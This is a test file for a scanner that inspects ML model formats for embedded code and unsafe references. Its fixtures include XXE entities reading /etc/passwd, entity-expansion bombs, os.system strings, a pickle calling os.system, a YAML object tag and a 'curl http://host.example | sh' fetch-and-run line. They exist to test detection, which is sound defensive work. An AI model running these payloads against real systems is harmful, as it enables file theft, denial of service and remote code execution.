import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { MemoryByteSource } from '../../../src/core/io/byteSource';
import { buildZip, concat, text as utf8 } from '../archives/builders';
import { bytesOf, integer, scanBytes, verdicts } from './scanBytes';

const u32 = (n: number | bigint) => integer(n, 4);

describe('Torch7', () => {
  const text = (s: string) => bytesOf(u32(s.length), s);
  const object = (name: string, index: number, body: Uint8Array) =>
    bytesOf(u32(4), u32(index), text('V 1'), text(name), body);
  const table = (index: number, ...pairs: Uint8Array[]) => bytesOf(u32(3), u32(index), u32(pairs.length / 2), ...pairs);
  const string = (s: string) => bytesOf(u32(2), text(s));

  it('walks an honest module to its end', async () => {
    const storage = object('torch.FloatStorage', 4, bytesOf(integer(2, 8), new Uint8Array(8)));
    const tensor = object(
      'torch.FloatTensor',
      3,
      bytesOf(u32(1), integer(2, 8), integer(1, 8), integer(1, 8), storage),
    );
    const report = await scanBytes('m.t7', object('nn.Linear', 1, table(2, string('weight'), tensor)));
    assert.deepEqual(verdicts(report), []);
    assert.equal(report.status, 'scanned');
    assert.ok(report.description?.layers?.some((l) => l.name === 'nn.Linear'));
  });

  it('reports code in strings and in bytecode, and functions as such', async () => {
    const code = object('nn.Sequential', 1, table(2, string('f'), string("os.execute('x')")));
    assert.deepEqual(verdicts(await scanBytes('m.t7', code)), ['high torch7/lua-code']);
    const dump = (body: string) =>
      object('nn.X', 1, table(2, string('f'), bytesOf(u32(8), u32(3), text(body), u32(0))));
    assert.deepEqual(verdicts(await scanBytes('m.t7', dump('\u001bLJ\u0002os\u0000\u0004\u0008execute'))), [
      'high torch7/lua-code',
    ]);
    assert.deepEqual(verdicts(await scanBytes('m.t7', dump('\u001bLJ\u0002return'))), ['medium torch7/function']);
  });

  it('impossible counts end the walk with a status', async () => {
    const report = await scanBytes('m.t7', object('nn.X', 1, bytesOf(u32(3), u32(2), u32(0x7fffffff))));
    assert.equal(report.status, 'partial');
  });
});

describe('PMML and OpenVINO', () => {
  const pmml = (inner: string, prolog = '<?xml version="1.0"?>') => `${prolog}<PMML version="4.4">${inner}</PMML>`;

  it('an honest PMML file is clean, whatever words its fields are called by', async () => {
    const report = await scanBytes(
      'm.pmml',
      pmml(
        '<Header/><DataDictionary><DataField name="eval" dataType="double"/><DataField name="import os code"/></DataDictionary>'.replace(
          'import os code',
          'exec',
        ),
      ),
    );
    assert.deepEqual(verdicts(report), []);
    assert.equal(report.description?.frameworkVersion, '4.4');
  });

  it('finds external entities in any encoding', async () => {
    const evil = pmml('<Header/>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>');
    assert.deepEqual(verdicts(await scanBytes('m.pmml', evil)), ['high xml-model/external-entity']);
    const utf16 = bytesOf(0xff, 0xfe, new Uint8Array(Buffer.from(evil, 'utf16le')));
    assert.deepEqual(verdicts(await scanBytes('m.pmml', utf16)), ['high xml-model/external-entity']);
  });

  it('functions that are Java classes', async () => {
    const apply = (name: string) => pmml(`<Apply function="${name}"><FieldRef field="x"/></Apply>`);
    assert.deepEqual(verdicts(await scanBytes('m.pmml', apply('com.acme.Evil'))), [
      'medium xml-model/native-extension',
    ]);
    assert.deepEqual(verdicts(await scanBytes('m.pmml', apply('x-trigonometric.sin'))), []);
    assert.deepEqual(verdicts(await scanBytes('m.pmml', apply('log10'))), []);
  });

  it('computes expansion without expanding', async () => {
    const entities = ['<!ENTITY a0 "0123456789">'];
    for (let n = 1; n < 12; n += 1) entities.push(`<!ENTITY a${n} "${`&a${n - 1};`.repeat(10)}">`);
    assert.deepEqual(verdicts(await scanBytes('m.pmml', pmml('x', `<!DOCTYPE x [${entities.join('')}]>`))), [
      'high xml-model/entity-expansion',
    ]);
    const loop = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>';
    assert.deepEqual(verdicts(await scanBytes('m.pmml', pmml('x', loop))), ['high xml-model/entity-expansion']);
  });

  it('finds program text in extensions', async () => {
    const report = await scanBytes(
      'm.pmml',
      pmml('<Extension name="x"><![CDATA[import os; os.system("id")]]></Extension>'),
    );
    assert.deepEqual(verdicts(report), ['high xml-model/embedded-code']);
  });

  it('sees through character references, other encodings and many uses of one entity', async () => {
    const high = async (bytes: Uint8Array | string, rule: string) => {
      const found = verdicts(await scanBytes('m.pmml', bytes));
      assert.ok(found.includes(`high xml-model/${rule}`), found.join());
    };
    await high(pmml('<Extension value="&#111;s.system(1)"/>'), 'embedded-code');
    await high(pmml('<Extension>&#x6f;s.system(1)</Extension>'), 'embedded-code');
    const xxe = pmml('', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>');
    const utf32 = bytesOf([0xff, 0xfe, 0, 0], ...Array.from(xxe, (c) => integer(c.charCodeAt(0), 4)));
    await high(utf32, 'external-entity');
    const ebcdic: Record<string, number> = { '<': 0x4c, '?': 0x6f, x: 0xa7, m: 0x94, l: 0x93, '>': 0x6e, ' ': 0x40 };
    const letters = 'abcdefghi,jklmnopqr,stuvwxyz,ABCDEFGHI,JKLMNOPQR,STUVWXYZ,0123456789'.split(',');
    for (const [k, start] of [0x81, 0x91, 0xa2, 0xc1, 0xd1, 0xe2, 0xf0].entries())
      for (const [n, c] of [...(letters[k] as string)].entries()) ebcdic[c] = start + n;
    Object.assign(ebcdic, { '=': 0x7e, '"': 0x7f, '!': 0x5a, '[': 0xba, ']': 0xbb, ':': 0x7a, '/': 0x61, '.': 0x4b });
    await high(
      Uint8Array.from(xxe, (c) => ebcdic[c] ?? 0x40),
      'external-entity',
    );
    const large = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(20_000)}">]>`;
    await high(pmml('&a;'.repeat(1000), large), 'entity-expansion');
    assert.deepEqual(verdicts(await scanBytes('m.pmml', pmml('&a;', large))), ['low xml-model/doctype']);
    const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
    await high(pmml(include), 'external-entity');
  });

  it('a megabyte of unclosed attributes is read in one pass', async () => {
    const report = await scanBytes('m.pmml', pmml(`<x ${'a'.repeat(2 ** 20)}`));
    assert.equal(report.status, 'scanned');
  });

  const net = (layer: string) => `<?xml version="1.0"?><net name="m" version="11"><layers>${layer}</layers></net>`;
  it('OpenVINO: known operation sets are clean, foreign ones and libraries are not', async () => {
    assert.deepEqual(
      verdicts(await scanBytes('m.xml', net('<layer id="0" name="r" type="Relu" version="opset1"/>'))),
      [],
    );
    assert.ok(
      verdicts(await scanBytes('m.xml', net('<layer id="0" name="r" type="Mine" version="extension"/>'))).includes(
        'medium xml-model/custom-layer',
      ),
    );
    const library = net('<layer id="0" name="r" type="Relu" version="opset1"><data path="../libx.so.1"/></layer>');
    assert.ok(verdicts(await scanBytes('m.xml', library)).includes('high xml-model/native-extension'));
  });
});

describe('native code', () => {
  const elf = bytesOf(0x7f, 'ELF', 2, 1, 1, new Uint8Array(60));
  it('an executable or a script under a data name is high, a library beside a model medium, alone info', async () => {
    assert.deepEqual(verdicts(await scanBytes('weights.bin', elf)), ['high native/executable-as-model']);
    assert.deepEqual(
      verdicts(await scanBytes('m.pt', '#!/bin/sh\nid\n')).filter((v) => v.startsWith('high')),
      ['high native/executable-as-model'],
    );
    assert.deepEqual(verdicts(await scanBytes('libops.so', elf)), ['info native/native-code']);
    const companions = { list: async () => ['m.onnx', 'libops.so'], open: async () => undefined };
    assert.deepEqual(verdicts(await scanBytes('libops.so', elf, { companions })), [
      'medium native/library-beside-model',
    ]);
    // The tests of a package bring pickles along, beside its extension modules.
    const ofPackage = { list: async () => ['test.pickle', 'libops.so'], open: async () => undefined };
    assert.deepEqual(verdicts(await scanBytes('libops.so', elf, { companions: ofPackage })), [
      'info native/native-code',
    ]);
  });

  it('a file beside it whose name others have as well is a model by what it begins with', async () => {
    const beside = (name: string, content: string) =>
      scanBytes('libops.so', elf, {
        companions: { list: async () => [name, 'libops.so'], open: async () => new MemoryByteSource(bytesOf(content)) },
      });
    for (const [name, content] of [
      ['easy-install.pth', 'import sys; sys.path\n'],
      ['plugin.xml', '<?xml version="1.0"?>\n<plugin/>'],
      ['empty.pth', ''],
    ] as const)
      assert.deepEqual(verdicts(await beside(name, content)), ['info native/native-code'], name);
    for (const [name, content] of [
      ['weights.pth', 'PK\x03\x04'],
      ['model.xml', '<?xml version="1.0"?>\n<net name="a" version="11">'],
    ] as const)
      assert.deepEqual(verdicts(await beside(name, content)), ['medium native/library-beside-model'], name);
  });

  it('text that happens to begin with MZ is no program', async () => {
    await assert.rejects(scanBytes('x.bin', bytesOf('MZ', new Uint8Array(100).fill(7))), /no format claims/);
  });
});

describe('Core ML', () => {
  const field = (number: number, body: Uint8Array | string) => {
    const content = typeof body === 'string' ? bytesOf(body) : body;
    return bytesOf(varint((number << 3) | 2), varint(content.length), content);
  };
  const varint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]);
  const model = (...parts: Uint8Array[]) => bytesOf(8, 4, ...parts);

  it('describes an honest network under any name', async () => {
    const report = await scanBytes(
      'x.dat',
      model(field(2, field(100, field(4, 'MIT'))), field(500, field(1, field(1, 'dense')))),
    );
    assert.deepEqual(verdicts(report), []);
    assert.equal(report.description?.license, 'MIT');
    assert.deepEqual(
      report.description?.layers?.map((l) => l.name),
      ['dense'],
    );
  });

  it('reports custom layers, custom models, linked models and native libraries', async () => {
    const custom = model(field(500, field(1, bytesOf(field(1, 'evil'), field(500, field(10, 'EvilLayer'))))));
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', custom)), ['medium coreml/custom-code']);
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', model(field(555, field(10, 'X'))))), [
      'medium coreml/custom-code',
    ]);
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', model(field(556, field(1, field(1, field(1, 'x'))))))), [
      'medium coreml/linked-model',
    ]);
    const library = model(field(500, field(3, '/tmp/evil.dylib')));
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', library)), ['high coreml/native-library']);
  });

  it('finds custom layers in the networks of branches and loops', async () => {
    const custom = field(1, bytesOf(field(1, 'l'), field(500, field(10, 'C'))));
    const nested = (kind: number, place: number, inner = custom) =>
      field(1, bytesOf(field(1, 'outer'), field(kind, field(place, inner))));
    const code = ['medium coreml/custom-code'];
    for (const [kind, place] of [
      [605, 1],
      [605, 2],
      [615, 3],
      [615, 4],
    ] as const)
      assert.deepEqual(verdicts(await scanBytes('m.mlmodel', model(field(500, nested(kind, place))))), code);
    const twice = nested(615, 4, nested(605, 1));
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', model(field(403, twice)))), code);
    let deep: Uint8Array = custom;
    for (let n = 0; n < 40; n += 1) deep = nested(615, 4, deep);
    assert.equal((await scanBytes('m.mlmodel', model(field(500, deep)))).status, 'partial');
  });

  it('paths of linked models, of weights and of packages that lead out', async () => {
    const linked = (file: string, search?: string) =>
      model(
        field(556, field(1, bytesOf(field(1, field(1, file)), search === undefined ? [] : field(2, field(1, search))))),
      );
    const judge = async (name: string, bytes: Uint8Array | string) => verdicts(await scanBytes(name, bytes));
    assert.deepEqual(await judge('m.mlmodel', linked('other.mlmodelc')), ['medium coreml/linked-model']);
    const out = ['high coreml/path-outside', 'medium coreml/linked-model'];
    assert.deepEqual(await judge('m.mlmodel', linked('../../x.mlmodelc')), out);
    assert.deepEqual(await judge('m.mlmodel', linked('x.mlmodelc', 'models:/tmp/x')), out);
    const program = (path: string) => {
      const value = field(5, bytesOf(field(1, path), 16, 64));
      const constant = bytesOf(field(1, 'const'), field(5, bytesOf(field(1, 'val'), field(2, value))));
      const block = field(3, constant);
      const conditional = field(3, bytesOf(field(1, 'cond'), field(4, block)));
      const fn = field(3, bytesOf(field(1, 'CoreML7'), field(2, bytesOf(block, conditional))));
      return model(field(502, bytesOf(8, 1, field(2, bytesOf(field(1, 'main'), field(2, fn))))));
    };
    const honest = await scanBytes('m.mlmodel', program('@model_path/weights/weight.bin'));
    assert.deepEqual(verdicts(honest), []);
    assert.deepEqual(honest.description?.operators, { const: 2, cond: 1 });
    assert.deepEqual(await judge('m.mlmodel', program('@model_path/../../../x')), ['high coreml/path-outside']);
    assert.deepEqual(await judge('m.mlmodel', program('/etc/passwd')), ['high coreml/path-outside']);
    const manifest = (path: string) =>
      JSON.stringify({ fileFormatVersion: '1.0.0', itemInfoEntries: { a: { path } }, rootModelIdentifier: 'a' });
    assert.deepEqual(await judge('Manifest.json', manifest('com.apple.CoreML/model.mlmodel')), []);
    assert.deepEqual(await judge('Manifest.json', manifest('../../../etc/x')), ['high coreml/path-outside']);
    const mil = (path: string) =>
      `program(1.0)\n{ func main<ios15>() { x = const()[val = tensor<fp16, [4]>(BLOBFILE(path = tensor<string, []>("${path}"), offset = tensor<uint64, []>(64)))]; } }`;
    assert.deepEqual(await judge('model.mil', mil('@model_path/weights/weight.bin')), []);
    assert.deepEqual(await judge('model.mil', mil('/private/var/x')), ['high coreml/path-outside']);
  });

  it('code in metadata that applications define', async () => {
    const described = (value: string) =>
      model(field(2, field(100, field(100, bytesOf(field(1, 'k'), field(2, value))))), field(900, ''));
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', described('{"classes": ["a", "b"]}'))), []);
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', described('import os; os.system("id")'))), [
      'medium coreml/metadata-code',
    ]);
  });

  it('finds the custom layer inside a pipeline', async () => {
    const inner = model(field(500, field(1, bytesOf(field(1, 'l'), field(500, field(10, 'C'))))));
    assert.deepEqual(verdicts(await scanBytes('m.mlmodel', model(field(202, field(1, inner))))), [
      'medium coreml/custom-code',
    ]);
  });
});

describe('MessagePack', () => {
  const fixed = (s: string) => bytesOf(0xa0 | s.length, s);
  it('describes Flax arrays', async () => {
    const array = bytesOf(0x93, 0x92, 2, 3, fixed('float32'), 0xc4, 24, new Uint8Array(24));
    const report = await scanBytes(
      'm.msgpack',
      bytesOf(0x81, fixed('params'), 0x81, fixed('w'), 0xc7, array.length, 1, array),
    );
    assert.deepEqual(verdicts(report), []);
    assert.deepEqual(report.description?.tensors?.[0]?.shape, [2, 3]);
    assert.equal(report.description?.parameters, 6);
  });

  it('reports object keys, foreign extensions and trailing bytes', async () => {
    const report = await scanBytes(
      'm.msgpack',
      bytesOf(0x82, fixed('__reduce__'), fixed('x'), fixed('w'), 0xd4, 9, 0, 1, 2),
    );
    assert.deepEqual(verdicts(report), [
      'high msgpack/object-hook',
      'medium msgpack/trailing-data',
      'medium msgpack/unknown-extension',
    ]);
  });

  it('bytes that are programs, pickles of any protocol or compressed, and texts that are code', async () => {
    const map = (value: Uint8Array) => bytesOf([0x81, 0xa6], 'params', [0x81, 0xa1], 'w', value);
    const binary = (bytes: Uint8Array) => bytesOf([0xc4, bytes.length], bytes);
    const pickle = new TextEncoder().encode("cos\nsystem\n(S'echo'\ntR.");
    const scan = async (value: Uint8Array) => verdicts(await scanBytes('m.msgpack', map(value)));
    assert.deepEqual(await scan(binary(bytesOf('\x7fELF', new Uint8Array(100)))), ['high msgpack/embedded-program']);
    for (const bytes of [pickle, new Uint8Array(gzipSync(pickle))])
      assert.ok((await scan(binary(bytes))).includes('critical pickle/dangerous-call'));
    const code = '__import__("os").system("x")';
    assert.deepEqual(await scan(bytesOf([0xa0 | code.length], code)), ['medium msgpack/active-text']);
    const words = 'adamw, model.eval() is on';
    assert.deepEqual(await scan(bytesOf([0xa0 | words.length], words)), []);
  });

  it('hostile counts are errors, not allocations', async () => {
    assert.equal(
      (await scanBytes('m.msgpack', bytesOf(0x81, fixed('params'), 0xdd, integer(0xffffffff, 4, false)))).status,
      'failed',
    );
    const deep = bytesOf(
      0x81,
      fixed('params'),
      Array.from({ length: 600 }, () => 0x91),
    );
    assert.match((await scanBytes('m.msgpack', deep)).reason ?? '', /512 levels/);
  });
});

describe('boosting', () => {
  it('describes XGBoost JSON and UBJSON, and refuses impossible sizes', async () => {
    const json = {
      learner: {
        learner_model_param: { num_feature: '4' },
        objective: { name: 'reg:squarederror' },
        gradient_booster: { name: 'gbtree', model: { gbtree_model_param: { num_trees: '3' } } },
      },
      version: [2, 0, 3],
    };
    const report = await scanBytes('m.json', JSON.stringify(json));
    assert.equal(report.description?.frameworkVersion, '2.0.3');
    assert.equal(report.description?.properties?.trees, 3);
    const key = (s: string) => bytesOf('L', integer(s.length, 8, false), s);
    const ubj = bytesOf('{', key('learner'), '{', key('x'), '[$d#L', integer(2n ** 62n, 8, false));
    assert.ok(verdicts(await scanBytes('m.ubj', ubj)).includes('high boosting/impossible-size'));
  });

  it('tells program code in the texts of boosting models and of closed formats', async () => {
    const lightgbm = (names: string) => `tree\nversion=v4\nfeature_names=${names}\n\nTree=0\nnum_leaves=2\n`;
    const xgboost = (attributes: Record<string, string>) =>
      JSON.stringify({ learner: { attributes, objective: { name: 'reg:squarederror' } }, version: [2, 0, 0] });
    assert.deepEqual(verdicts(await scanBytes('m.lgb', lightgbm('a os.system("id")'))), ['medium boosting/code-text']);
    assert.deepEqual(verdicts(await scanBytes('m.bst', xgboost({ x: '__import__("os")' }))), [
      'medium boosting/code-text',
    ]);
    const catboost = bytesOf('CBM1', integer(40, 4), 'curl http://host.example | sh', new Uint8Array(40));
    assert.deepEqual(verdicts(await scanBytes('m.cbm', catboost)), ['medium boosting/code-text']);
    const late = bytesOf('RKNN', new Uint8Array(3 * 2 ** 20), '/bin/sh -c id');
    const report = await scanBytes('m.rknn', late);
    assert.ok(verdicts(report).includes('medium engine/code-text'));
    assert.equal(report.findings.find((f) => f.ruleId === 'engine/code-text')?.location.offset, late.length - 13);
    assert.deepEqual(
      verdicts(await scanBytes('m.lgb', lightgbm('eval exec system_load subprocess model.eval(x)'))),
      [],
    );
    assert.deepEqual(verdicts(await scanBytes('m.bst', xgboost({ best_iteration: '3' }))), []);
  });

  it('LightGBM and CatBoost', async () => {
    const text = 'tree\nversion=v4\nobjective=binary\nmax_feature_idx=3\n\nTree=0\nnum_leaves=2\n';
    assert.equal((await scanBytes('m.lgb', text)).description?.properties?.features, 4);
    assert.ok(verdicts(await scanBytes('m.lgb', text.replace('=2', '=-2'))).includes('high boosting/impossible-size'));
    assert.deepEqual(verdicts(await scanBytes('m.cbm', bytesOf('CBM1', u32(4), 1, 2, 3, 4))), []);
    assert.deepEqual(verdicts(await scanBytes('m.cbm', bytesOf('CBM1', u32(400), 1))), [
      'high boosting/impossible-size',
    ]);
  });
});

describe('MXNet, PaddlePaddle, MLflow, compiled engines', () => {
  it('Java classes are told under the names of data, and not by the thousand in their own archives', async () => {
    const compiled = bytesOf([0xca, 0xfe, 0xba, 0xbe], integer(52, 4, false), new Uint8Array(64));
    const jar = buildZip([
      { name: 'META-INF/MANIFEST.MF', data: utf8('Manifest-Version: 1.0\n') },
      { name: 'com/acme/A.class', data: compiled },
    ]);
    assert.deepEqual(verdicts(await scanBytes('acme.jar', jar)), []);
    assert.deepEqual(verdicts(await scanBytes('model.bin', compiled)), ['info native/native-code']);
    const zip = buildZip([{ name: 'weights.dat', data: compiled }]);
    assert.deepEqual(verdicts(await scanBytes('m.zip', zip)), ['info native/native-code']);
  });

  it('libraries for the host inside of compiled engines, not the code of accelerators', async () => {
    const elf = (machine: number) =>
      bytesOf(
        [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0],
        new Uint8Array(8),
        integer(3, 2),
        integer(machine, 2),
        new Uint8Array(100),
      );
    const engine = (...parts: Uint8Array[]) => concat([utf8('ptrt'), new Uint8Array(1000), ...parts]);
    const judge = async (bytes: Uint8Array) =>
      verdicts(await scanBytes('m.engine', bytes)).filter((v) => v.includes('embedded'));
    assert.deepEqual(await judge(engine(elf(190))), []);
    assert.deepEqual(await judge(engine(new Uint8Array(3), elf(62))), ['medium engine/embedded-library']);
    assert.deepEqual(await judge(engine(new Uint8Array(40 * 2 ** 20), elf(183))), ['medium engine/embedded-library']);
    const exe = bytesOf('MZ', new Uint8Array(58), integer(64, 4), 'PE', [0, 0], new Uint8Array(60));
    assert.deepEqual(await judge(engine(exe)), ['medium engine/embedded-library']);
  });

  it('MXNet custom operators', async () => {
    const symbol = (op: string) =>
      JSON.stringify({
        nodes: [
          { op: 'null', name: 'data' },
          { op, name: 'c', attrs: { op_type: 'mine' } },
        ],
      });
    assert.deepEqual(verdicts(await scanBytes('m-symbol.json', symbol('Custom'))), ['medium mxnet/custom-operator']);
    assert.deepEqual(verdicts(await scanBytes('m-symbol.json', symbol('Convolution'))), []);
  });

  it('MXNet operators inside of loops and branches, keys in any spelling, text that breaks off', async () => {
    const custom = { op: 'Custom', name: 'c', attrs: { op_type: 'mine' } };
    const loop = (inner: object) => ({ op: '_foreach', name: 'loop', subgraphs: [{ nodes: [inner] }] });
    const symbol = (node: object) => JSON.stringify({ nodes: [{ op: 'null', name: 'data' }, node] });
    const told = ['medium mxnet/custom-operator'];
    assert.deepEqual(verdicts(await scanBytes('m-symbol.json', symbol(loop(custom)))), told);
    assert.deepEqual(verdicts(await scanBytes('m-symbol.json', symbol(loop(loop(custom))))), told);
    assert.deepEqual(
      verdicts(await scanBytes('m-symbol.json', symbol(custom).replace('"op":"C', '"\\u006fp":"C'))),
      told,
    );
    assert.deepEqual(verdicts(await scanBytes('m-symbol.json', symbol(loop({ op: 'FullyConnected', name: 'f' })))), []);
    const cut = await scanBytes('m-symbol.json', symbol(loop(custom)).slice(0, -4));
    assert.equal(cut.status, 'partial');
    assert.ok(verdicts(cut).includes('medium mxnet/custom-operator'));
  });

  it('a Paddle program is known by its first block, and those of PIR by their magic', async () => {
    const f = (n: number, b: Uint8Array | string) => bytesOf((n << 3) | 2, b.length, b);
    const root = [8, 0, 0x10, ...new Array(9).fill(0xff), 1];
    const program = (op: string) => f(1, bytesOf(root, f(4, f(3, op))));
    const renamed = await scanBytes('weights.bin', program('py_func'));
    assert.equal(renamed.format, 'paddle-program');
    assert.deepEqual(verdicts(renamed), ['medium paddle/python-operator']);
    const pir = (...ops: string[]) =>
      JSON.stringify({
        base_code: { magic: 'pir', version: 1, trainable: false },
        program: {
          regions: [{ '#': 'region_0', blocks: [{ '#': 'block_0', args: [], ops: ops.map((op) => ({ '#': op })) }] }],
        },
      });
    const honest = await scanBytes('inference.json', pir('1.data', 'p', '1.conv2d', '1.relu', '1.fetch'));
    assert.deepEqual(verdicts(honest), []);
    assert.match(honest.format, /^paddle-pir/);
    assert.deepEqual(verdicts(await scanBytes('inference.json', pir('1.py_func'))), ['medium paddle/python-operator']);
    assert.deepEqual(verdicts(await scanBytes('x.json', pir('1.save_combine'))), ['high paddle/file-operator']);
    assert.deepEqual(verdicts(await scanBytes('x.json', pir('3.evil_op'))), ['medium paddle/custom-operator']);
    const nested = JSON.stringify({ '#': '2.if', regions: [{ blocks: [{ ops: [{ '#': '1.py_func' }] }] }] });
    const inside = pir('1.data').replace('{"#":"1.data"}', nested);
    assert.deepEqual(verdicts(await scanBytes('x.json', inside)), ['medium paddle/python-operator']);
  });

  it('Paddle operators', async () => {
    const f = (n: number, b: Uint8Array | string) =>
      bytesOf((n << 3) | 2, typeof b === 'string' ? b.length : b.length, b);
    const program = (op: string) => f(1, f(4, f(3, op)));
    assert.deepEqual(verdicts(await scanBytes('m.pdmodel', program('conv2d'))), []);
    assert.deepEqual(verdicts(await scanBytes('m.pdmodel', program('py_func'))), ['medium paddle/python-operator']);
    assert.deepEqual(verdicts(await scanBytes('m.pdmodel', program('save'))), ['high paddle/file-operator']);
  });

  it('MLflow loaders and paths', async () => {
    const model = (body: string) =>
      scanBytes('MLmodel', `flavors:\n  python_function:\n${body}mlflow_version: 2.9.0\n`);
    assert.deepEqual(verdicts(await model('    loader_module: mlflow.sklearn\n    model_path: model.pkl\n')), []);
    assert.deepEqual(verdicts(await model('    loader_module: mine\n')), ['medium mlflow/custom-loader']);
    assert.deepEqual(verdicts(await model('    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n')), [
      'high mlflow/path-outside',
    ]);
  });

  it('an MLmodel with repeated keys, aliases and inner paths is judged for all of them', async () => {
    const scan = async (text: string) => verdicts(await scanBytes('MLmodel', text));
    const outside = [
      'flavors:\n  sklearn:\n    pickled_model: model.pkl\n    pickled_model: ../../x.pkl\n',
      'a: &x ../../evil\nflavors:\n  sklearn:\n    pickled_model: *x\n',
      'flavors:\n  python_function:\n    env: {conda: ../../c.yaml}\n    loader_module: mlflow.sklearn\n',
      'flavors:\n  python_function:\n    artifacts: {m: {path: /etc/passwd}}\n',
      'saved_input_example_info: {artifact_path: ../../x.json}\nflavors: {}\n',
    ];
    for (const text of outside) assert.deepEqual(await scan(text), ['high mlflow/path-outside'], text);
    const twice = 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    loader_module: evil\n';
    assert.deepEqual(await scan(twice), ['medium mlflow/custom-loader']);
    assert.ok(
      (await scan('flavors:\n  x: !!python/object/apply:os.system [x]\n')).includes('critical config/python-tag'),
    );
    const honest =
      'flavors:\n  python_function:\n    artifacts:\n      m: {path: artifacts/x, uri: /home/u/x}\n    code: null\n';
    assert.deepEqual(await scan(honest), []);
  });

  it('a compiled engine is named and never called clean', async () => {
    const report = await scanBytes('m.engine', bytesOf('ptrt', new Uint8Array(64)));
    assert.equal(report.status, 'partial');
    assert.ok(verdicts(report).includes('low engine/native-plan'));
  });
});

describe('TorchServe', () => {
  const HANDLER = 'class H:\n    pass\n';
  const archive = (manifest: string, handler = HANDLER) =>
    buildZip([
      { name: 'MAR-INF/MANIFEST.json', data: utf8(manifest) },
      { name: 'h.py', data: utf8(handler) },
    ]);
  const manifest = (model: Record<string, string>) =>
    JSON.stringify({ runtime: 'python', model: { modelName: 'm', handler: 'h.py', ...model }, archiverVersion: '0.8' });
  const scan = async (bytes: Uint8Array) => verdicts(await scanBytes('m.mar', bytes));

  it('an honest archive names its handler and nothing else', async () => {
    assert.deepEqual(await scan(archive(manifest({ extraFiles: 'index_to_name.json' }))), ['info torchserve/handler']);
  });

  it('paths are judged in a manifest that not every reader accepts', async () => {
    const outside = manifest({ serializedFile: '../../w.pt' });
    for (const text of [outside, `\ufeff${outside}`, `${outside.slice(0, -1)},}`, outside.slice(0, -20)]) {
      assert.ok((await scan(archive(text))).includes('high torchserve/manifest-path'), text);
    }
    const twice = manifest({}).replace('"h.py"', '"h.py", "handler": "/tmp/x.py"');
    assert.ok((await scan(archive(twice))).includes('high torchserve/manifest-path'));
  });

  it('a handler runs when it is imported, whatever it is called', async () => {
    const found = await scan(archive(manifest({}), "import os\nos.system('echo')\n"));
    assert.ok(found.includes('high python/import-time-execution'), found.join());
  });
});
